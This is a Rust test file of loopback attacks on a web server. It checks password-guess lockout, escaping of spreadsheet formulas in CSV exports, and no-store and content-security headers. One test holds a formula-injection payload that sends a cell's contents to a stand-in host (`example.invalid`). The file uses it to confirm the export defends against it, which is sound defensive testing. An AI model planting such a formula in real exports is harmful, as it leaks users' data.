//! Attacks on the server over loopback, each bounded in requests and time,
//! each asserting that the server stays up and nothing is stored or shown
//! that should not be. The suite grows with `docs/security.md`: every
//! defence listed there names its test here.

use std::time::{Duration, Instant};

use e2e::web::{pages_server, WebClient, PASSWORD};

/// `/health` answers within a second.
async fn healthy(url: &str) -> anyhow::Result<()> {
    let t = Instant::now();
    let resp = reqwest::Client::new()
        .get(format!("{url}/health"))
        .timeout(Duration::from_secs(1))
        .send()
        .await?;
    anyhow::ensure!(resp.status().is_success(), "health: {}", resp.status());
    anyhow::ensure!(
        t.elapsed() < Duration::from_secs(1),
        "health took {:?}",
        t.elapsed()
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn parallel_wrong_guesses_get_no_more_checks_than_the_lock_allows() -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let server = pages_server(dir.path()).await?;
    // 25 wrong guesses at once, each from a fresh form (its own CSRF).
    let mut guesses = Vec::new();
    for i in 0..25 {
        let url = server.url.clone();
        guesses.push(tokio::spawn(async move {
            let mut c = WebClient::new(&url);
            c.sign_in("eva", &format!("wrong guess number {i}")).await
        }));
    }
    let during = healthy(&server.url).await;
    let mut statuses = Vec::new();
    for g in guesses {
        statuses.push(g.await??.status);
    }
    during?;
    let checked = statuses.iter().filter(|s| **s == 401).count();
    let refused = statuses.iter().filter(|s| matches!(**s, 429 | 503)).count();
    assert!(checked <= 5, "{checked} guesses were checked: {statuses:?}");
    assert_eq!(checked + refused, 25, "{statuses:?}");
    // The name is locked now, even for the right password.
    let mut eva = WebClient::new(&server.url);
    assert_eq!(eva.sign_in("eva", PASSWORD).await?.status, 429);
    healthy(&server.url).await?;
    server.stop().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_in_a_name_leaves_the_exports_as_text_and_imports_back_unchanged(
) -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let server = pages_server(dir.path()).await?;
    let mut eva = WebClient::new(&server.url);
    eva.sign_in("eva", PASSWORD).await?;
    let csrf = eva.get("/reference").await?.csrf().expect("csrf");
    let header = "id,name,lat,lon,radius_m,active_from,active_to,visits_per_week,minutes_per_week";
    let evil = r#"=HYPERLINK("https://example.invalid/?leak="&A1)"#;
    let file = format!(
        "{header}\n,\"{}\",57.26,16.45,80,2026-01-01,,7,90\n",
        evil.replace('"', "\"\"")
    );
    let imported = eva
        .post_file(
            "/reference/hotspots",
            &[("csrf", &csrf)],
            "file",
            file.into_bytes(),
        )
        .await?;
    assert!(imported.status < 400, "{}", imported.body);
    let export = eva.get("/reference/hotspots.csv").await?;
    let mut reader = csv::Reader::from_reader(export.body.as_bytes());
    let names: Vec<String> = reader
        .records()
        .map(|r| r.map(|r| r[1].to_string()))
        .collect::<Result<_, _>>()?;
    let cell = names
        .iter()
        .find(|n| n.contains("HYPERLINK"))
        .expect("the hotspot is exported");
    assert_eq!(cell, &format!("'{evil}"), "a spreadsheet shows it as text");
    assert!(
        names.iter().all(|n| !n.starts_with(['=', '+', '-', '@'])),
        "no exported cell starts a formula: {names:?}"
    );
    // Imported back, the name is what was typed, not with the apostrophe.
    let again = eva
        .post_file(
            "/reference/hotspots",
            &[("csrf", &csrf)],
            "file",
            export.body.clone().into_bytes(),
        )
        .await?;
    assert!(again.status < 400, "{}", again.body);
    let export2 = eva.get("/reference/hotspots.csv").await?;
    assert_eq!(
        export2.body, export.body,
        "an export read back changes nothing"
    );
    server.stop().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pages_and_exports_are_never_cached_and_load_nothing_from_outside() -> anyhow::Result<()> {
    let dir = tempfile::tempdir()?;
    let server = pages_server(dir.path()).await?;
    let mut eva = WebClient::new(&server.url);
    eva.sign_in("eva", PASSWORD).await?;
    let client = reqwest::Client::new();
    for path in [
        "/follow-up",
        "/follow-up.csv",
        "/records",
        "/public",
        "/sign-in",
        "/health",
    ] {
        let mut req = client.get(format!("{}{path}", server.url));
        let session = eva.cookie("tl_session").expect("signed in");
        req = req.header("cookie", format!("tl_session={session}"));
        let resp = req.send().await?;
        assert_eq!(resp.status().as_u16(), 200, "{path}");
        let h = resp.headers();
        let get = |name: &str| h.get(name).and_then(|v| v.to_str().ok()).unwrap_or("");
        assert_eq!(get("cache-control"), "no-store", "{path}");
        assert_eq!(get("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(get("referrer-policy"), "no-referrer", "{path}");
        let csp = get("content-security-policy");
        for part in [
            "default-src 'none'",
            "frame-ancestors 'none'",
            "form-action 'self'",
        ] {
            assert!(csp.contains(part), "{path}: {csp}");
        }
    }
    server.stop().await;
    Ok(())
}
